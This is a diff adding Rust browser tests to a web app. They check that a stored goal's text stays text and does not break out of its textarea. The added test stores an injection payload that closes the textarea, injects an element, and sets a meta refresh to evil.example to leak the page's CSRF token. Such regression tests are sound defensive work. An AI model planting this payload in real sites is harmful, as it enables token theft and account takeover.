@@ -232,3 +232,93 @@ async fn a_programme_goes_through_its_cycle_without_javascript() {
 async fn a_programme_goes_through_its_cycle_with_javascript() {
     programme_cycle(Js::On).await;
 }
+
+/// A goal that closes its text box and asks the browser to leave: the page shows it as text and
+/// the browser stays on the site (it left, with the page's CSRF token in the address, before).
+async fn stored_markup_cannot_take_the_browser_away(js: Js) {
+    use server::storage::{NewEvent, RiskChoice};
+    let app = TestApp::spawn(Backend::Sqlite).await.with_demo().await;
+    let closed = app.previous_demo_campaign().await;
+    let (_, own) = app.demo_school("demo-01").await;
+    let admin = app
+        .storage
+        .user_by_login("admin")
+        .await
+        .expect("query")
+        .expect("admin")
+        .id;
+    let event = |action: &'static str| NewEvent {
+        user_id: admin,
+        at: 1_800_000_000,
+        action,
+        subject: "",
+        comment: "",
+    };
+    let today = server::clock::today();
+    assert!(app
+        .storage
+        .choose_risk(
+            RiskChoice {
+                campaign_id: closed,
+                school_id: own,
+                factor: "RF01",
+                reasoning: "видим",
+                max: 3,
+                today,
+            },
+            event("risk_chosen"),
+        )
+        .await
+        .expect("chosen"));
+    let programme = app
+        .storage
+        .programme(closed, own)
+        .await
+        .expect("query")
+        .expect("programme")
+        .id;
+    let payload = r#"</textarea><h1 id=inj>x</h1><meta http-equiv="refresh" content="0;url=https://evil.example/leak?d="#;
+    assert!(app
+        .storage
+        .set_risk_plan(programme, "RF01", payload, payload, event("plan"))
+        .await
+        .expect("plan"));
+    let browser = Browser::start(js).await;
+    sign_in(&browser, &app, "admin").await;
+    let page = format!("/work/campaigns/{closed}/schools/{own}/programme");
+    open(&browser, &app, &page, js, "textarea[name='goal']").await;
+    // A refresh of 0 s would have left by now.
+    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
+    let url = browser.client.current_url().await.expect("url");
+    assert_eq!(
+        url.host_str(),
+        Some("127.0.0.1"),
+        "the browser left for {url}"
+    );
+    assert!(
+        browser.client.find(Locator::Id("inj")).await.is_err(),
+        "the stored text became an element"
+    );
+    let goal = browser
+        .client
+        .find(Locator::Css("textarea[name='goal']"))
+        .await
+        .expect("the goal's box")
+        .prop("value")
+        .await
+        .expect("value")
+        .unwrap_or_default();
+    assert_eq!(goal, payload, "the box holds the text as it was stored");
+    browser.close().await;
+    app.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn stored_markup_stays_text_without_javascript() {
+    stored_markup_cannot_take_the_browser_away(Js::Off).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn stored_markup_stays_text_with_javascript() {
+    stored_markup_cannot_take_the_browser_away(Js::On).await;
+}
